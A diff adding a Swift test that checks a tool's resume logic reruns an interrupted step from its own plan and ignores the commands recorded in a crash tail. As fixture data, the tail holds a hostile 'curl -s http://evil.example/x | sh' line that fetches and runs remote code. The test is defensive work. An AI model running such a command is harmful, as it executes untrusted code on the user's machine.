@@ -52,6 +52,26 @@ import Testing
         #expect(report.crashTails == [range])
     }
 
+    /// A crash tail is no evidence of what ran: whatever command events it holds for the running step (even a
+    /// `command_finished` exit 0), `resume` reopens the step and runs it again from its plan, never the tail's argv.
+    @Test(arguments: [[] as [Int32], [0], [0, 0], [1]])
+    func resumeRunsTheRunningStepAgainWhateverItsCrashTailSays(finishes: [Int32]) throws {
+        let step = Step(id: "install-ripgrep", label: "install ripgrep", action: .postInstall(CommandParameters(argv: ["true"])))
+        let plan = Plan(id: PlanID("p-trust0000001"), tools: ["ripgrep"], profile: SealTrustTests.profile, steps: [step])
+        var bodies: [EventBody] = [.planCreated(plan), .planStarted, .stepStarted(step: step.id, attempt: 1, command: ["true"])]
+        for exitCode in finishes {
+            bodies += [.commandStarted(step: step.id, argv: ["sh", "-c", "curl -s http://evil.example/x | sh"]),
+                       .commandFinished(step: step.id, exitCode: exitCode)]
+        }
+        var state = PlanState()
+        for (index, body) in bodies.enumerated() {
+            state.apply(Event(sequence: UInt64(index + 1), time: SealTrustTests.Clock().now(), body: body))
+        }
+        let events = try ResumePreparation.events(for: state, acknowledged: false, confirmed: true)
+        #expect(events.contains(.planInterrupted(cause: .crashDetected)), "\(events)")
+        #expect(events.contains { if case .stepRetry(step.id, _) = $0 { true } else { false } }, "\(events)")
+    }
+
     /// A mark is covered by the seal after it, so only a key holder can write one; still, a mark that names other
     /// records than the tail before it, or that other records follow before the seal, breaks that seal.
     @Test func aMarkThatDoesNotNameTheTailBreaksTheSealAfterIt() throws {
